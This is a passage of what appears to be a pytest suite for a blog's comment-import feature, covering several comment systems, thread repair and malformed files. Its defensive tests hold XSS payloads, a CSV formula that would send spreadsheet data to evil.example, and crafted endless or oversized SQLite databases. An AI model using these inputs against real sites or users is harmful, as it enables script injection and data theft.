"""Comments from elsewhere: each system's file, what is wrong with files, and what stays when it ends early."""

import csv
import gzip
import json
import re
import sqlite3
import stat
import tracemalloc
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, text

from blog import accounts, comments, db, exports, imports, journal, outbox, revision
from blog.comments import (
    Comment,
    CommentState,
    deciding,
    fulltext,
    learning,
    notices,
    pins,
    queue,
    schooling,
    syndication,
    thread,
)
from blog.comments.pins import CommentPin
from blog.comments.queue import Choice
from blog.comments.thread import Node
from blog.errors import Conflict, FileError, NotFound
from blog.imports import Kind, Report, Wish, formats, staging, storing, streams
from blog.imports.placing import read_map
from blog.imports.storing import CommentImport
from blog.markup import SourceFormat, plain_text
from blog.outbox import FileTransport, OutgoingMail
from tests.cast import ARTICLE, AUTHOR, CLOCK, MODERATOR, SECOND, Clock, Visitor, article

pytestmark = pytest.mark.usefixtures("clock", "at_work")
on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
on_postgresql = pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)

DATA = Path(__file__).parent / "data" / "imports"
DISQUS = (
    '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">'
    '<thread dsq:id="1"><link>https://old.example/caring-for-skin-in-winter</link></thread>'
)


def post(number: object, message: str = "Hello", *, parent: object = "", **more: str) -> str:
    """A comment as Disqus has it."""
    fields = {"createdAt": "2020-01-01T00:00:00Z", "isDeleted": "false", "isSpam": "false"} | more
    inside = "".join(f"<{name}>{value}</{name}>" for name, value in fields.items())
    answers = f'<parent dsq:id="{parent}"/>' if parent else ""
    return (
        f'<post dsq:id="{number}"><message><![CDATA[{message}]]></message>{inside}'
        f'<author><name>Nomsa</name></author><thread dsq:id="1"/>{answers}</post>\n'
    )


def run(path: Path, *, is_dry: bool = False, **wish: Any) -> Report:
    db.session.rollback()
    return imports.run(path, Wish(is_dry=is_dry, **wish), progress=lambda *_: None, now=CLOCK)


def disqus(folder: Path, *posts: str) -> Path:
    path = folder / "posts.xml"
    path.write_text(f"{DISQUS}\n{''.join(posts)}</disqus>", encoding="utf-8")
    return path


def own(folder: Path, *rows: Any) -> Path:
    """An export of our own with rows that may lack what goes without saying."""
    usual = {"article": SECOND, "state": "approved", "name": "Nomsa", "source": "Hello"}
    usual |= {"source_format": "markdown", "created_at": "2025-01-01T00:00:00Z"}
    said = [
        usual | {"id": at, "key": f"key {at}"} | row if isinstance(row, dict) else row
        for at, row in enumerate(rows, start=1)
    ]
    path = folder / "own.json"
    folder.mkdir(exist_ok=True)
    path.write_text(json.dumps({"format": exports.FORMAT, "version": 1, "comments": said}))
    return path


def stored() -> list[Comment]:
    db.session.rollback()
    return list(db.session.execute(select(Comment).order_by(Comment.id)).scalars())


def named() -> dict[str, Comment]:
    return {comment.name: comment for comment in stored()}


def at(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0
) -> datetime:
    return datetime(year, month, day, hour, minute, second, tzinfo=UTC)


def said(report: Report, kind: Kind) -> dict[str, int]:
    return {remark.words: remark.count for remark in report.of(kind)}


# Each system


def test_disqus_keeps_dates_threads_and_states_whatever_the_order_of_its_file() -> None:
    report = run(DATA / "disqus.xml")
    assert (report.source, report.new, report.known) == ("Disqus", {"approved": 3, "spam": 1}, 0)
    found = named()
    asked, answer = found["Lerato"], found["Thandi"]
    assert (answer.parent_id, answer.root_id, asked.parent_id) == (asked.id, asked.id, None)
    assert asked.id < answer.id
    assert asked.created_at == at(2025, 1, 16, 8, 30)
    assert answer.email == "thandi@reader.example"
    assert found["Pills"].state == CommentState.SPAM
    assert {comment.article_id for comment in stored()} == {SECOND}
    assert asked.body_html == (
        "<p>Is <strong>retinol</strong> safe?"
        ' <a href="https://reader.example/x" rel="ugc nofollow noreferrer noopener">Here</a></p>'
    )
    assert "onclick" in asked.source
    assert said(report, Kind.SKIPPED) == {
        "deleted before, and nothing answers it": 1,
        "no article of this site is at the address of its page": 1,
    }
    assert said(report, Kind.ORPHANS) == {
        "answers to what isn’t there, kept as comments of their own": 1
    }
    assert report.pages == [
        ("https://old.example/about", None, 1),
        ("https://old.example/2026/01/winter-skin/", SECOND, 5),
    ]


def test_no_address_of_a_machine_is_taken_over() -> None:
    run(DATA / "disqus.xml")
    run(DATA / "wordpress.xml")
    rows = db.session.execute(text("SELECT * FROM comment")).all()
    assert rows
    assert "198.51.100" not in str(rows)


def test_wordpress_keeps_states_paragraphs_and_who_wrote_with_an_account() -> None:
    author = accounts.by_email(AUTHOR.email)
    report = run(DATA / "wordpress.xml", author=author)
    assert report.new == {"approved": 2, "pending": 1, "rejected": 1}
    found = named()
    assert found["Nomsa"].body_html == (
        "<p>Thank you.</p>\n<p>Two <em>paragraphs</em><br>\nand a line.</p>"
    )
    assert found["Nomsa"].email == "nomsa@reader.example"
    assert (found["Sandra"].is_by_author, found["Sandra"].email) == (True, None)
    assert found["Sandra"].parent_id == found["Nomsa"].id
    assert found["Waiting"].state == CommentState.PENDING
    assert found["Thrown away"].state == CommentState.REJECTED
    assert said(report, Kind.SKIPPED) == {
        "a state that isn’t known": 1,
        "no comment but a notice of another site": 1,
        "no date that can be read": 1,
    }
    assert said(report, Kind.CHANGED) == {"kept without an address that is none": 1}


def test_nobody_gets_the_badge_of_an_author_unless_her_account_is_named() -> None:
    report = run(DATA / "wordpress.xml")
    assert not named()["Sandra"].is_by_author
    assert sum("--author" in words for words in said(report, Kind.CHANGED)) == 1


def test_isso_json_is_read_with_numbers_and_without() -> None:
    report = run(DATA / "isso.json")
    assert report.new == {"approved": 2, "pending": 1}
    found = named()
    assert found["Nomsa"].body_html == "<p>Hello <strong>you</strong></p>\n"
    assert found["Nomsa"].created_at == at(2023, 11, 29, 16, 24, 23)
    assert found["Nomsa"].edited_at is not None
    assert found["Anonymous"].parent_id == found["Nomsa"].id
    assert said(report, Kind.SKIPPED) == {"a state that isn’t known": 2, "no comment": 1}


def isso_database(folder: Path) -> Path:
    path = folder / "comments.db"
    with sqlite3.connect(path) as connection:
        connection.executescript(
            "CREATE TABLE threads (id INTEGER PRIMARY KEY, uri VARCHAR(256) UNIQUE, title TEXT);"
            "CREATE TABLE comments (tid, id INTEGER PRIMARY KEY, parent INTEGER, created FLOAT,"
            " modified FLOAT, mode INTEGER, remote_addr VARCHAR, text VARCHAR, author VARCHAR,"
            " email VARCHAR, website VARCHAR);"
            "INSERT INTO threads VALUES (1, '/caring-for-skin-in-winter/', 'Winter');"
        )
        rows = [
            (1, 1, None, 1700000000.5, None, 1, "127.0.0.1", "Hello", "Nomsa", None),
            (1, 2, 1, 1700000100.0, 1700000200.0, 2, "127.0.0.1", "Waiting", None, "x@y.example"),
            (1, 3, None, 1700000300.0, None, 4, "127.0.0.1", "", None, None),
            (1, 4, 3, 1700000400.0, None, 1, "127.0.0.1", "Under what is gone", "Zola", None),
            (1, 5, None, 1700000500.0, None, 1, "127.0.0.1", "x" * 30_000, "Long", None),
        ]
        connection.executemany(
            "INSERT INTO comments VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, NULL)", rows
        )
    connection.close()
    return path


def test_the_database_of_isso_is_read_as_it_is(tmp_path: Path) -> None:
    path = isso_database(tmp_path)
    before = path.read_bytes()
    report = run(path)
    assert report.new == {"approved": 2, "pending": 1, "withdrawn": 1}
    gone = stored()[2]
    assert (gone.state, gone.name, gone.source, gone.body_html) == ("withdrawn", "", "", "")
    assert named()["Zola"].parent_id == gone.id
    assert said(report, Kind.SKIPPED) == {"longer than 20,000 characters": 1}
    assert path.read_bytes() == before


ENDLESS = (
    "WITH RECURSIVE more(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM more)"
    " SELECT n AS id, 1 AS tid, '' AS parent, 0 AS created, 0 AS modified, 0 AS mode,"
    " '' AS author, '' AS email, '' AS text FROM more"
)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (f"DROP TABLE comments; CREATE VIEW comments AS {ENDLESS}", "it has no such tables"),
        ("ALTER TABLE threads RENAME TO x; CREATE VIEW threads AS SELECT * FROM x", "no such"),
        ("DROP TABLE comments; CREATE VIRTUAL TABLE comments USING fts5(id, text)", "no such"),
        ("UPDATE comments SET text = hex(zeroblob(2000000)) WHERE id = 5", "too big"),
        ("UPDATE comments SET author = hex(zeroblob(2000000)) WHERE id = 5", "too big"),
        ("UPDATE threads SET uri = hex(zeroblob(2000000))", "too big"),
    ],
)
def test_a_database_that_would_be_endless_or_huge_is_told(
    tmp_path: Path, change: str, words: str
) -> None:
    path = isso_database(tmp_path)
    with sqlite3.connect(path) as connection:
        connection.executescript(change)
    connection.close()
    assert words in fault(path)


def test_what_is_too_long_in_a_database_is_as_if_it_were_not_there(tmp_path: Path) -> None:
    path = isso_database(tmp_path)
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE comments SET author = hex(zeroblob(9000)) WHERE id = 1")
        connection.execute("UPDATE comments SET modified = 'x' || hex(zeroblob(9000)) WHERE id = 2")
        connection.execute("UPDATE comments SET mode = 'x' || hex(zeroblob(9000)) WHERE id = 4")
    connection.close()
    report = run(path)
    assert report.new == {"approved": 1, "pending": 1}
    assert [(row.name, row.edited_at) for row in stored()] == [("Anonymous", None)] * 2
    assert said(report, Kind.SKIPPED)["a state that isn’t known"] == 1


def test_remark42_keeps_what_was_typed(tmp_path: Path) -> None:
    packed = tmp_path / "backup.gz"
    packed.write_bytes(gzip.compress((DATA / "remark.json").read_bytes()))
    report = run(packed, author=accounts.by_email(AUTHOR.email))
    assert (report.source, report.new) == ("Remark42", {"approved": 3, "withdrawn": 1})
    found = named()
    assert found["Nomsa"].source == "Hello **you**"
    assert found["Nomsa"].created_at == datetime(2022, 3, 1, 8, 0, 0, 123456, tzinfo=UTC)
    assert (found["Sandra"].source_format, found["Sandra"].is_by_author) == ("html", True)
    assert found["Sandra"].body_html == "<p>From the <em>clinic</em></p>"


def test_commento_finds_people_who_come_after_their_comments() -> None:
    report = run(DATA / "commento.json", author=accounts.by_email(AUTHOR.email))
    assert report.new == {"approved": 2, "pending": 1, "spam": 1}
    found = named()
    assert found["Nomsa"].email == "nomsa@reader.example"
    assert found["Sandra"].is_by_author
    assert found["Sandra"].parent_id == found["Nomsa"].id


def test_comentario_finds_pages_and_states() -> None:
    report = run(DATA / "comentario.json")
    assert report.new == {"approved": 1, "pending": 1, "rejected": 1}
    found = named()
    assert found["A guest"].parent_id == found["Nomsa"].id
    assert found["Nomsa"].edited_at == at(2024, 1, 5, 9, 1)


def written(folder: Path, whole: object) -> Path:
    path = folder / "some.json"
    path.write_text(json.dumps(whole))
    return path


def test_isso_json_may_count_the_comments_of_each_page_anew(tmp_path: Path) -> None:
    said = {"author": "Nomsa", "created": "2024-01-01 08:00:00", "text": "Hello"}
    answer = {"id": 2, "parent": 1, "author": "Zola", "created": "2024-01-02 08:00:00", "text": "x"}
    pages = [
        {"id": f"/{ARTICLE}", "comments": [said | {"id": 1}, answer]},
        {
            "id": f"/{SECOND}",
            "comments": [said | {"id": 1, "author": "Lerato"}, answer | {"id": 3}],
        },
    ]
    path = written(tmp_path, pages)
    assert run(path).imported == 4
    by_id = {row.id: row for row in stored()}
    answers = [
        (row.article_id, by_id[row.parent_id].name) for row in by_id.values() if row.parent_id
    ]
    assert answers == [(ARTICLE, "Nomsa"), (SECOND, "Lerato")]
    pages.reverse()
    assert run(written(tmp_path, pages)).known == 4


def test_comentario_in_its_first_version_names_pages_and_nobody_otherwise(tmp_path: Path) -> None:
    said = {"path": f"/{SECOND}", "markdown": "Hello", "state": "approved", "html": ""}
    said |= {"creationDate": "2024-01-01T08:00:00Z", "parentHex": "root", "url": "", "host": "x"}
    said |= {"editedTime": "0001-01-01T00:00:00.000Z"}
    rows = [
        said | {"commentHex": "c1", "commenterHex": "0" * 64, "commenterName": "A guest"},
        said | {"commentHex": "c2", "commenterHex": "p1", "parentHex": "c1"},
        said | {"commentHex": "c3", "commenterHex": "p1", "creationDate": "0001-01-01T00:00:00Z"},
    ]
    people = [{"commenterHex": "p1", "name": "Nomsa", "email": "nomsa@reader.example"}]
    run(written(tmp_path, {"version": 1, "comments": rows, "commenters": people}))
    guest, answer = stored()
    assert (guest.name, guest.email, guest.edited_at) == ("A guest", None, None)
    assert (answer.name, answer.parent_id) == ("Nomsa", guest.id)


def test_names_that_remark42_keeps_as_html_are_read_as_text(tmp_path: Path) -> None:
    said = {"id": "a", "text": "<p>x</p>", "user": {"name": "O&#39;Brien &amp;amp;"}}
    said |= {"locator": {"url": f"/{SECOND}"}, "time": "2024-01-01T08:00:00Z"}
    run(written(tmp_path, said))
    assert stored()[0].name == "O'Brien &amp;"


# Twice, dry, and grown meanwhile


@pytest.mark.parametrize("name", sorted(path.name for path in DATA.iterdir()))
def test_importing_twice_changes_nothing(name: str) -> None:
    first = run(DATA / name)
    before = [(row.id, row.state, row.html) for row in stored()]
    number = revision.current(db.session)
    again = run(DATA / name)
    assert (again.imported, again.known) == (0, first.imported)
    assert [(row.id, row.state, row.html) for row in stored()] == before
    assert revision.current(db.session) == number


def test_a_dry_run_says_the_same_and_stores_nothing() -> None:
    dry = run(DATA / "disqus.xml", is_dry=True)
    assert stored() == []
    assert run(DATA / "disqus.xml") == dry


def test_what_came_since_joins_what_was_imported_before(tmp_path: Path) -> None:
    run(disqus(tmp_path, post(1), post(2, parent=1)))
    report = run(disqus(tmp_path, post(1), post(2, parent=1), post(3, parent=2), post(4, parent=1)))
    assert (report.imported, report.known) == (2, 2)
    one, two, four, three = stored()
    assert (three.parent_id, three.root_id, four.parent_id) == (two.id, one.id, one.id)


def test_what_is_imported_stands_in_its_place_in_time_in_however_many_passes(
    tmp_path: Path,
) -> None:
    def row(key: str, day: int, **more: object) -> dict[str, object]:
        return {"key": key, "source": key, "created_at": f"2024-06-{day:02}T00:00:00Z"} | more

    asked, late = row("asked", 2), row("late", 9)
    run(own(tmp_path, asked, row("answer", 8, parent=1), late))
    first, between = row("first", 1), row("between", 5)
    early = row("early", 3, parent=1)
    for _ in range(2):
        run(own(tmp_path, asked, early, first, between, row("below early", 4, parent=2)))
    run(own(tmp_path, row("middle", 4), asked, row("in the middle", 7, parent=2)))

    def shown(nodes: Sequence[Node]) -> list[str]:
        return [
            each
            for node in nodes
            for each in (plain_text(node.comment.body_html), *shown(node.children))
        ]

    conversation = ["asked", "early", "below early", "in the middle", "answer"]
    found = thread.visible_on(article(SECOND))
    assert shown(found.nodes) == ["first", *conversation, "middle", "between", "late"]
    turned = thread.visible_on(article(SECOND), newest_first=True)
    assert shown(turned.nodes) == ["late", "between", "middle", *conversation, "first"]
    in_feed = [comment.source for comment in syndication.newest_on(SECOND)]
    assert in_feed[:4] == ["late", "answer", "in the middle", "between"]


@pytest.mark.parametrize("is_learnt", [True, False])
@pytest.mark.parametrize("was", ["approved", "rejected", "spam"])
@pytest.mark.parametrize("decided", [{"decided_at": "2025-02-01T00:00:00Z"}, {}])
def test_an_undo_puts_back_what_was_decided_elsewhere_and_taught_here(
    tmp_path: Path, is_learnt: bool, was: str, decided: dict[str, str]
) -> None:
    by = accounts.by_email(AUTHOR.email)
    assert by
    if decided:
        decided["decided_by"] = MODERATOR.email
    run(own(tmp_path, {"state": was, "source": "Cheap pills, all of them"} | decided))
    if is_learnt:
        for _ in schooling.learn():
            pass

    def found() -> tuple[object, ...]:
        (comment,) = stored()
        taught = db.session.execute(text("SELECT is_spam, score, step FROM comment_lesson"))
        made = (comment.state, comment.decided_at, comment.decided_by_id)
        return *made, [tuple(row) for row in taught], weights()

    def weights() -> list[tuple[object, ...]]:
        kept = (row for row in learning.export() if row["seen"])
        return [(row["bucket"], round(row["total"], 9), row["seen"]) for row in kept]

    before = found()
    for state in sorted({"approved", "rejected", "spam"} - {was}):
        with db.writing():
            ids = [comment.id for comment in stored()]
            deciding.decide(
                ids,
                CommentState(state),
                if_still=lambda _: True,
                by=by,
                now=CLOCK,
                batch=f"to {state}",
            )
        assert found() != before
        with db.writing():
            assert deciding.undo(f"to {state}", by=by, now=CLOCK)[0] == 1
        assert found() == before


def test_one_line_of_the_journal_and_no_news_come_of_an_import(tmp_path: Path) -> None:
    number = revision.current(db.session)
    run(disqus(tmp_path, post(1), post(2, parent=1)))
    db.session.rollback()
    (line,) = journal.recent()
    assert (line.verb, line.thing, line.thing_id) == ("imported", "comments", "Disqus")
    assert revision.current(db.session) == number + 1
    assert all(comment.told_at == CLOCK for comment in stored())


def test_imported_comments_are_read_found_and_decided_about(author: Visitor) -> None:
    run(DATA / "wordpress.xml")
    page = thread.visible_on(article(SECOND))
    assert page.total == 2
    found = queue.choose(Choice(state=CommentState.PENDING, words="nobody read"), limit=9)
    waiting = named()["Waiting"].id
    assert found.ids == [waiting]
    shown = author.get(f"/admin/comments/{waiting}").text
    assert "imported from WordPress" in shown
    db.session.rollback()
    with db.writing():
        (comment,) = comments.by_ids([waiting])
        comment.approve(by=accounts.by_email(AUTHOR.email), now=CLOCK)
    assert named()["Waiting"].state == CommentState.APPROVED


def test_what_was_erased_since_it_was_written_stays_erased(tmp_path: Path) -> None:
    hers = {"email": "lerato@reader.example"}
    path = own(
        tmp_path,
        hers | {"source": "Alone"},
        hers | {"source": "Answered", "original": "More"},
        {"source": "An answer", "parent": 2},
        hers | {"source": "Answered here only"},
        {"source": "Here already", "parent": 4},
        hers | {"source": "An edit", "state": "pending", "edit_of": 4},
        {"source": "Without an address"},
        hers | {"source": "After that", "created_at": "2025-06-02T00:00:00Z"},
    )

    def is_erased(email: str, moment: datetime) -> bool:
        return email == "lerato@reader.example" and moment <= at(2025, 6, 1)

    run(own(tmp_path / "known", {"id": 5, "key": "key 5", "source": "Here already"}))
    dry = run(path, is_dry=True, is_erased=is_erased)
    report = run(path, is_erased=is_erased)
    assert (
        (report.new, report.known) == (dry.new, dry.known) == ({"approved": 3, "withdrawn": 1}, 1)
    )
    assert said(report, Kind.SKIPPED) == {
        "written under an address whose data was erased here since": 4
    }
    rows = {row.source: row for row in stored()}
    kept = {"", "An answer", "Here already", "Without an address", "After that"}
    assert (len(stored()), set(rows)) == (len(kept), kept)
    gone = rows[""]
    assert (gone.state, gone.name, gone.email, gone.original) == ("withdrawn", "", None, None)
    assert (gone.html, gone.reasons, rows["An answer"].parent_id) == ("", [], gone.id)
    again = run(path, is_erased=is_erased)
    assert (again.imported, again.known) == (0, 5)


def test_an_address_that_a_file_tells_of_elsewhere_is_known_too() -> None:
    run(DATA / "commento.json", is_erased=lambda email, _: email == "nomsa@reader.example")
    assert "Nomsa" not in named()
    gone, answer = named()[""], named()["Sandra"]
    assert (gone.state, gone.email, answer.parent_id) == ("withdrawn", None, gone.id)


# Old addresses


def test_a_table_of_addresses_is_written_filled_in_and_read(tmp_path: Path) -> None:
    table = tmp_path / "pages.csv"
    run(DATA / "disqus.xml", is_dry=True, write_to=table)
    lines = table.read_text().splitlines()
    assert lines == [
        "old address,article,comments",
        "https://old.example/about,,1",
        f"https://old.example/2026/01/winter-skin/,{SECOND},5",
    ]
    table.write_text("\n".join(lines).replace("about,,", f"about,{ARTICLE},"))
    run(DATA / "disqus.xml", map_path=table)
    assert named()["Zola"].article_id == ARTICLE


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"open")',
    "+1",
    "-1",
    "@SUM(A1)",
    "'=1",
    "'quoted",
]


@pytest.mark.parametrize("address", FORMULAS)
def test_no_address_is_a_formula_in_the_table_and_each_is_read_again(
    tmp_path: Path, address: str
) -> None:
    path, table = disqus(tmp_path, post(1)), tmp_path / "pages.csv"
    known = address.replace("&", "&amp;")
    path.write_text(path.read_text().replace("https://old.example/" + SECOND, known))
    run(path, is_dry=True, write_to=table)
    with table.open(newline="") as file:
        _, (shown, *_) = csv.reader(file)
    assert shown == f"'{address}"
    table.write_text(table.read_text().replace(",,", f",{ARTICLE},"))
    assert run(path, map_path=table).pages == [(address, ARTICLE, 1)]


def test_an_address_is_read_as_it_was_typed_into_the_table(tmp_path: Path) -> None:
    table = tmp_path / "pages.csv"
    table.write_text(f"=1 , {ARTICLE}\n'quoted,{ARTICLE}\n")
    assert read_map(table) == {"=1": ARTICLE, "'quoted": ARTICLE}


@pytest.mark.parametrize(
    ("table", "words"),
    [
        (b"https://old.example/about,nowhere\n", "names the article nowhere"),
        (b"a,\nalone\n", "pages.csv:2: Each line needs an old address and an article"),
        (b"a,\xff\n", "pages.csv: It can’t be read from here on"),
        (b"a," + b"x" * 200_000, "pages.csv:1: It can’t be read from here on"),
    ],
)
def test_a_table_that_is_wrong_stops_everything(tmp_path: Path, table: bytes, words: str) -> None:
    path = tmp_path / "pages.csv"
    path.write_bytes(table)
    with pytest.raises((FileError, NotFound), match=re.escape(words)):
        run(DATA / "disqus.xml", map_path=path)
    assert stored() == []


@pytest.mark.parametrize(
    "address",
    [
        "https://old.example/2026/01/winter-skin/?utm=x#comments",
        f"https://old.example/articles/{SECOND}",
        f"/blog/2020/{SECOND}.html",
        f"{SECOND}/index.php",
        SECOND,
    ],
)
def test_an_old_address_leads_to_its_article(tmp_path: Path, address: str) -> None:
    path = disqus(tmp_path, post(1))
    path.write_text(path.read_text().replace("https://old.example/" + SECOND, address))
    assert run(path).imported == 1


def test_of_many_or_long_addresses_the_first_that_fit_are_tried(tmp_path: Path) -> None:
    path, long = tmp_path / "old.xml", "x" * 3_000
    said = (DATA / "wordpress.xml").read_text()
    start, comment = said.partition("<channel>")[0], said[said.index("<wp:comment>") :]
    comment = comment.partition("</wp:comment>")[0] + "</wp:comment>"
    for links, article_id in (([long, SECOND], SECOND), (["a", "b", "c", "d", SECOND], None)):
        known = "".join(f"<link>{link}</link>" for link in links)
        whole = f"{start}<channel><item><title>x</title>{known}{comment}</item></channel></rss>"
        path.write_text(whole)
        shown = links[1] if article_id else links[0]
        assert run(path, is_dry=True).pages == [(shown, article_id, 1)]
    path = disqus(tmp_path, post(1))
    said = path.read_text().replace("https://old.example/" + SECOND, long)
    path.write_text(said.replace("<link>", f"<id>{SECOND}</id><link>"))
    assert run(path).pages == [(SECOND, SECOND, 1)]


@pytest.mark.parametrize("address", ["http://[broken", "https://old.example/", "winter", "%00"])
def test_an_address_that_leads_nowhere_is_listed(tmp_path: Path, address: str) -> None:
    path = disqus(tmp_path, post(1))
    path.write_text(path.read_text().replace("https://old.example/" + SECOND, address))
    assert (run(path).imported, run(path).pages) == (0, [(address, None, 1)])


# What is odd in a good file


def test_rings_loops_and_answers_across_articles_become_comments_of_their_own(
    tmp_path: Path,
) -> None:
    rows = [
        {"parent": 3},
        {"parent": 1},
        {"parent": 2},
        {"parent": 4},
        {"article": ARTICLE},
        {"parent": 5},
    ]
    report = run(own(tmp_path, *rows))
    assert report.imported == 6
    assert sum(said(report, Kind.ORPHANS).values()) == 3
    assert sum(comment.parent_id is None for comment in stored()) == 4


def test_many_rings_are_cut_at_once(tmp_path: Path) -> None:
    rings = staging.RINGS_MAX + 5
    rows = [{"parent": at + 1} if at % 2 else {"parent": at - 1} for at in range(1, 2 * rings + 1)]
    report = run(own(tmp_path, *rows))
    assert report.imported == 2 * rings
    assert said(report, Kind.ORPHANS) == {
        "answers to each other in a ring, of which one begins it": staging.RINGS_MAX,
        "answers in one of many rings, kept as comments of their own": 10,
    }
    assert sum(comment.parent_id is None for comment in stored()) == staging.RINGS_MAX + 10


def test_a_thread_of_sixty_levels_is_kept_whatever_its_order(tmp_path: Path) -> None:
    posts = [post(at, f"<p>Level {at}</p>", parent=at - 1) for at in range(1, 61)]
    assert run(disqus(tmp_path, *reversed(posts))).imported == 60
    found = stored()
    assert [comment.text for comment in found] == [f"Level {at}" for at in range(1, 61)]
    assert {comment.root_id for comment in found[1:]} == {found[0].id}
    assert thread.visible_on(article(SECOND)).total == 60


def test_more_than_one_batch_names_rows_of_the_one_before(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(storing, "BATCH", 2)
    run(disqus(tmp_path, *(post(at, parent=at - 1) for at in range(1, 6))))
    found = stored()
    assert [comment.parent_id for comment in found] == [None, *(each.id for each in found[:-1])]
    assert {comment.root_id for comment in found[1:]} == {found[0].id}


def test_what_can_not_be_kept_as_it_is_is_said(tmp_path: Path) -> None:
    rows = [
        {"name": "N" * 90, "email": "a" * 300 + "@x.example"},
        {"source": "*" * 6_000},
        {"source": "line\n" * 301},
        {"source": "  "},
        {"source": None},
        {"id": None},
        {"id": 2.5},
        {"article": "x" * 3_000},
        {"created_at": "99999-01-01"},
        {"created_at": 10**18},
        {"original": "x" * 20_001},
        {"key": "key 1"},
        {"key": ""},
        {"source_format": "tex"},
        {"state": "importing"},
        {"state": "replaced"},
        "no comment",
    ]
    report = run(own(tmp_path, *rows))
    assert report.imported == 3
    assert said(report, Kind.SKIPPED) == {
        "a state or format that isn’t known, or no key": 4,
        "no number or no page of its own": 3,
        "no date that can be read": 2,
        "no words": 2,
        "in the file twice": 1,
        "longer than 20,000 characters": 1,
        "no comment": 1,
    }
    cut, long, _ = stored()
    assert (cut.name, cut.email) == ("N" * 80, None)
    assert (long.source_format, long.body_html) == (SourceFormat.HTML, f"<p>{'*' * 6_000}</p>")


NO_TIMES = [
    "0001-01-01T00:00:00Z",
    "0001-01-02T00:00:00+14:00",
    "0002-01-01",
    "1969-12-31T23:59:59Z",
    -1,
    "2026-05-05T09:30:01Z",
    "9999-12-31T23:30:00Z",
    "9999-12-31T23:59:59-14:00",
    253_402_300_799,
    float(2**60),
]


@pytest.mark.parametrize("when", NO_TIMES)
def test_a_time_at_which_nobody_wrote_is_none(
    author: Visitor, tmp_path: Path, when: object
) -> None:
    times = dict.fromkeys(("edited_at", "decided_at", "pinned_at"), when)
    report = run(own(tmp_path, {"created_at": when}, times, {"created_at": "2026-05-05T09:29Z"}))
    assert said(report, Kind.SKIPPED) == {"no date that can be read": 1}
    (kept, _) = stored()
    assert (kept.edited_at, kept.decided_at, pins.among([kept.id])) == (None, None, set())
    for path in (f"/articles/{SECOND}", "/admin/comments?state=approved"):
        assert author.get(path).status_code == 200


def test_control_characters_and_half_characters_leave_no_trace(tmp_path: Path) -> None:
    run(own(tmp_path, {"name": "A\0B\u2028C\ud800", "source": "x\0\ud800y\r\nz"}))
    (comment,) = stored()
    assert comment.name == "A B C?"
    assert comment.source == "x\N{REPLACEMENT CHARACTER}?y\r\nz"


@pytest.mark.parametrize(
    "reasons",
    [
        "x",
        ["x"],
        [{"step": 1}],
        [{"step": "a", "words": "b", "tone": "loud", "answer": "allow"}],
        [{"step": "a", "words": "b", "tone": "bad", "answer": "allow", "named": [["x"]]}],
        [{"step": "a", "words": "b", "tone": "bad", "answer": "allow", "named": 7}],
    ],
)
def test_reasons_that_no_page_could_show_are_left_out(tmp_path: Path, reasons: object) -> None:
    run(own(tmp_path, {"reasons": reasons}))
    assert stored()[0].reasons == []


def test_of_reasons_no_more_is_kept_than_a_comment_ever_has(tmp_path: Path) -> None:
    usual: dict[str, object] = {"step": "model", "words": "spam", "tone": "bad", "answer": "hold"}
    named = [["a", "b"]] * 30
    rows = [usual | {"named": named, "more": "x"}, usual | {"words": "w" * 900}]
    rows += [usual | {"named": [["a" * 501, "b"]]}, *[usual] * 30]
    run(own(tmp_path, {"reasons": rows}))
    first, second, *others = stored()[0].reasons
    assert first == usual | {"named": named[:20]}
    assert second == usual | {"words": "w" * 500}
    assert others == [usual] * 18


PAYLOADS = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<p style="color:red" class="x" id="y" onclick="z">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<style>*{}</style><math><mi>x</mi></math>",
    "<b onmouseover=alert(1)>x</b><i/onclick=1>y</i>",
    "<form><input name=x></form><template>x</template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div>a</div><div>b</div>" + "<blockquote>" * 40 + "deep",
]


def test_nothing_the_policy_forbids_is_left_of_html(tmp_path: Path) -> None:
    run(disqus(tmp_path, *(post(at, f"{each}<p>words</p>") for at, each in enumerate(PAYLOADS))))
    allowed = re.compile(
        r"</?(?:blockquote|br|code|em|li|ol|p|pre|strong|ul)>|</a>"
        r'|<a(?: href="(?:https?|mailto):[^"]*")?(?: title="[^"]*")? rel="[a-z ]*">'
    )
    found = stored()
    assert len(found) == len(PAYLOADS)
    for comment in found:
        assert "<" not in allowed.sub("", comment.html)
        assert "words" in comment.html
    assert found[-1].html == "<p>a b deep words</p>"


def test_html_is_rendered_anew_as_html_and_hidden_details_are_hidden_in_it(tmp_path: Path) -> None:
    run(disqus(tmp_path, post(1, "<p>Call <b>me</b>: 011 555 0100</p><p>*not Markdown*</p>")))
    (comment,) = stored()
    with db.writing():
        (comment,) = comments.by_ids([comment.id])
        user = accounts.by_email(AUTHOR.email)
        assert user
        assert comment.hide("ZA", by=user, now=CLOCK)
    (comment,) = stored()
    shown = "<p>Call <strong>me</strong>: (phone number hidden)</p><p>*not Markdown*</p>"
    assert comment.body_html == shown
    assert comment.written_text == "Call me: 011 555 0100 *not Markdown*"
    db.session.expunge(comment)
    comment.html_policy = 0
    assert comment.body_html == shown


# What is no good file


CRAFTED = {
    "links": ("<rss><channel><item>", "<link>{long}</link>", "</item></channel></rss>"),
    "threads": ("<disqus>", '<thread id="{at}"><link>{long}</link></thread>', "</disqus>"),
    "texts": ('{"users": 1', ', "orig": "{long}"', "}"),
}


@pytest.mark.parametrize(("start", "piece", "end"), CRAFTED.values(), ids=CRAFTED)
def test_memory_does_not_grow_with_what_a_crafted_file_repeats(
    tmp_path: Path, start: str, piece: str, end: str
) -> None:
